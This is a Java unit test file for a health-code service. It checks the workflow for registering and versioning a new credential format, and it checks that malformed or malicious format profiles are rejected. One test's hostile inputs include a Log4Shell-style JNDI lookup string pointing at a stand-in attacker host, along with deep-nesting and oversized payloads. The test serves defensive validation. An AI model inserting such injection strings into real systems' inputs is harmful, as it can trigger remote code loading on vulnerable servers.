package healthcode.functions;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import healthcode.functions.TestEvents.Answer;
import healthcode.json.JsonObject;
import healthcode.trust.Issuer;
import healthcode.trust.TrustList;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** A tenth format, invented here as data only: tried, proposed, approved, used, versioned. */
class RegisterFormatTest {

    private final TestWorld world = new TestWorld();
    private final RegisterFormatFunction register = new RegisterFormatFunction(world.wiring());
    private final RecogniseCodeFunction recognise = new RecogniseCodeFunction(world.wiring());
    private int requests;

    RegisterFormatTest() {
        var issuers = new ArrayList<Issuer>();
        for (var issuer : world.trust().issuers()) {
            var formats = new HashSet<>(issuer.formats());
            formats.add("sc-xinma");
            issuers.add(new Issuer(issuer.id(), issuer.name(), issuer.region(), formats, issuer.keys()));
        }
        world.trust(new TrustList(2, TestWorld.NOW, issuers));
    }

    private Answer put(String userArn, String query, String profile) {
        var event = TestEvents.event("PUT", "/v1/formats/sc-xinma" + query, userArn, Map.of(), profile);
        return TestEvents.send(register, event, world.context());
    }

    private Answer recognise(String version, String colour) {
        var code = OnboardingEvents.signed("sc-xinma@" + version, "{\"colour\":\"" + colour + "\",\"name\":\"张*\"}");
        var body = "{\"credential\":\"" + code + "\",\"destination\":\"440000\"}";
        var key = Map.of("Idempotency-Key", "k" + requests++);
        var event = TestEvents.event("POST", "/v1/recognitions", TestEvents.GUANGDONG, key, body);
        return TestEvents.send(recognise, event, world.context());
    }

    private static String level(Answer answer) {
        return answer.json()
                .object("decision")
                .flatMap(decision -> decision.text("level"))
                .orElse(answer.code());
    }

    private void publish(String profile) {
        assertEquals(202, put(TestEvents.SICHUAN, "", profile).status());
        assertEquals(200, put(TestEvents.PLATFORM, "", profile).status());
    }

    @Test
    void aTenthFormatIsTriedPublishedAndUsedWithoutAJavaFile() {
        var profile = OnboardingEvents.profile();
        assertEquals("format-unknown", level(recognise("1", "G")));
        assertEquals(200, put(TestEvents.SICHUAN, "?dryRun=true", profile).status());
        assertEquals("format-unknown", level(recognise("1", "G")));
        publish(profile);
        assertEquals("GREEN", level(recognise("1", "G")));
    }

    @Test
    void anUnlistedValueOfItNeverYieldsGreen() {
        publish(OnboardingEvents.profile());
        for (var colour : new String[] {"g", "G ", "", "green", "0", "B"}) {
            assertEquals("UNKNOWN", level(recognise("1", colour)), colour);
        }
    }

    @Test
    void itsNextVersionStandsBesideTheFirst() {
        publish(OnboardingEvents.profile());
        var second = OnboardingEvents.profile()
                .replace("\"version\":1", "\"version\":2")
                .replace("\"is\":\"G\"", "\"is\":\"L\"")
                .replace("\"colour\":\"G\"", "\"colour\":\"L\"");
        publish(second);
        assertEquals("GREEN", level(recognise("2", "L")));
        assertEquals("GREEN", level(recognise("1", "G")));
        assertEquals("UNKNOWN", level(recognise("1", "L")));
        var skipping = second.replace("\"version\":2", "\"version\":4");
        assertEquals("/version", pointer(put(TestEvents.SICHUAN, "", skipping)));
        assertEquals(
                409,
                put(TestEvents.SICHUAN, "", second.replace("Invented", "Changed"))
                        .status());
    }

    private static String pointer(Answer answer) {
        return ((JsonObject) answer.json().array("errors").orElseThrow().items().getFirst())
                .text("pointer")
                .orElseThrow();
    }

    @Test
    void nobodyPublishesAlone() {
        var profile = OnboardingEvents.profile();
        for (var i = 0; i < 3; i++) {
            assertEquals(202, put(TestEvents.SICHUAN, "", profile).status());
        }
        var other = profile.replace("Invented", "Otherwise");
        for (var i = 0; i < 3; i++) {
            assertEquals(202, put(TestEvents.PLATFORM, "", other).status());
        }
        assertEquals("format-unknown", level(recognise("1", "G")));
    }

    @Test
    void theApproverCannotChangeAValue() {
        put(TestEvents.SICHUAN, "", OnboardingEvents.profile());
        var changed = OnboardingEvents.profile()
                .replace("\"is\":\"R\",\"level\":\"RED\"", "\"is\":\"R\",\"level\":\"GREEN\"");
        assertEquals(202, put(TestEvents.PLATFORM, "", changed).status());
        assertEquals("format-unknown", level(recognise("1", "R")));
    }

    @Test
    void refusesHostileProfilesAndNamesTheirFaults() {
        var profile = OnboardingEvents.profile();
        var deep = "[".repeat(40) + "]".repeat(40);
        var rows = new StringBuilder();
        for (var i = 0; i < 6000; i++) {
            rows.append("{\"is\":\"v").append(i).append("\",\"level\":\"RED\"},");
        }
        var hostile = Map.of(
                "deep", profile.replace("\"G\",\"name\"", deep + ",\"name\""),
                "huge", profile.replace("{\"is\":\"G\"", rows + "{\"is\":\"G\""),
                "ambiguous", profile.replace("{\"is\":\"R\"", "{\"is\":\"G\",\"level\":\"RED\"},{\"is\":\"R\""),
                "wrong types", profile.replace("\"level\":{", "\"level\":[],\"guards\":{"),
                "greener", profile.replace("\"unlisted\":\"OTHER\"", "\"unlisted\":\"GREEN\""),
                "blank green", profile.replace("\"is\":\"G\"", "\"is\":\"\""),
                "expression", profile.replace("/name", "${jndi:ldap://attacker.example}"),
                "without cases", profile.replaceFirst("\"cases\":.*", "\"cases\":[]}"));
        hostile.forEach((name, document) -> {
            var answer = put(TestEvents.SICHUAN, "", document);
            assertTrue(answer.status() >= 400 && answer.status() < 500, name + " " + answer.status());
            assertEquals(
                    202, put(TestEvents.SICHUAN, "", OnboardingEvents.profile()).status(), name);
        });
        assertEquals(
                413,
                put(TestEvents.SICHUAN, "", "{\"id\":\"" + "x".repeat(256 * 1024) + "\"}")
                        .status());
    }
}
